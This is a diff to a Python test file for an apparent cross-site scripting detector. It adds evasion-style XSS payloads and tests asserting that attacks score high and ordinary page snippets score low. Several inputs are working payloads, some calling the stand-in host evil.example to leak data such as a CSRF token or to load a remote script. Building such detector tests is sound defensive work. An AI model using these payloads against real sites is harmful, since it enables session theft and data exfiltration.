@@ -65,6 +65,29 @@ ATTACKS = (
     "+ADw-script+AD4-alert(1)",
     "onerror=alert;throw 1",
     "&{alert('x')}",
+    "'-window.name-'",
+    '"+document.title+"',
+    "'||top.location||'",
+    "toString=alert;self+1",
+    "{valueOf:confirm}-0",
+    "x.toJSON=alert;JSON.stringify(x)",
+    "window.onload=alert",
+    "[3].forEach(alert)",
+    "Array.from([1],prompt)",
+    "'a'.replace(/a/,eval)",
+    "top[8680439..toString(30)](1)",
+    "with(document)alert(cookie)",
+    "window['al'+'ert'](1)",
+    "scriptalert(1)/script",
+    "㰀script㸀alert(1)㰀/script㸀",
+    "<scr<b>ipt>alert(1)</script>",
+    "$=~[];$={___:++$}",
+    "ﾟωﾟﾉ= /x/ ['_'];",
+    "<p v-if=\"a['con'+'structor'](1)\">",
+    '<i data-bind="click:alert(1)">',
+    "<svg x =onpointerup = print()>",
+    "<img name=currentScript>",
+    "<form><input name=parentNode>",
 )
 WRITTEN_OTHERWISE = ATTACKS[:12]
 HONEST = (
@@ -143,3 +166,68 @@ def test_pasted_statements_stay_below_sure():
 def test_generated_honest_values_are_not_suspected():
     suspected = [text for text in generated(1500, seed=4) if ask(text)[1] >= 0.7]
     assert suspected == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<a href=x ping="https://evil.example/">x',
+        "<table background='//evil.example?",
+        '<img src="https://evil.example/log?x=',
+        "<style>input[name=csrf][value^=a]{background:url(//evil.example/a)}</style>",
+        "<a id=cfg><a id=cfg name=url href=//evil.example/a.js>",
+        "\";location.href='https://evil.example';//",
+        "1;console.log(document.cookie)\n//",
+        "';alert('all your base');//",
+        "(confirm)(1)",
+        "location=name",
+        "location=location.hash",
+    ],
+)
+def test_what_carries_something_away_is_found(text):
+    assert ask(text)[1] >= 0.75
+
+
+SNAPSHOT = (
+    "<!DOCTYPE html><html lang='en'><head><title>x</title><link rel='stylesheet' href='/a.css'>"
+    "<script src='/x.js' async=''></script></head><body class='home' onload='init()'><p>Hi</p>{}</body></html>"
+)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        SNAPSHOT.format(""),
+        SNAPSHOT.format("<iframe src='https://maps.example/embed?x=1'></iframe>"),
+        '<script src="https://tpc.googlesyndication.com/a/x.js"></script><script>var d=document;d.title;</script>',
+        "<iframe src='https://ads.example/c?click=${CLICK_URL_ENC}' frameborder=0 onload='ready()'></iframe>",
+        "alert('Please fill in every field');",
+        "return confirm('Do you really want to delete this?');",
+        "return alert(this)",
+        'document.getElementById("y").innerHTML = year;\n$(".menu").on("click", function () { alert("x") });\n',
+        'onclick="doIt()"',
+        "(alert)/form ;-)",
+        "@import url('https://fonts.googleapis.com/css2?family=Roboto');",
+        r"<script\b[^>]*>(.*?)</script>",
+        '<input name="title"><input name="action" id="q"><a id="top" name="top">x</a>',
+        '<div v-if="open" :class="{a: b}" @click="toggle">x</div>',
+        "type=alert; mode=confirm",
+        "\u03c9\u03c1\u03b1 \u03c4\u03bf\u03c5",
+    ],
+)
+def test_pages_programs_and_words_stay_in_doubt(text):
+    assert ask(text)[1] < 0.74
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        SNAPSHOT.format("<script>alert(1)</script>"),
+        SNAPSHOT.format("<img src=x onerror=alert(1)>"),
+        SNAPSHOT.format("<script src=//evil.example/x.js></script>"),
+        SNAPSHOT.format("<a href='javascript:alert(1)'>x</a>"),
+        '<script src="https://x.doubleclick.net/a?callback=alert(1)"></script>',
+    ],
+)
+def test_attacks_within_pages_are_found(text):
+    assert ask(text)[1] >= 0.75
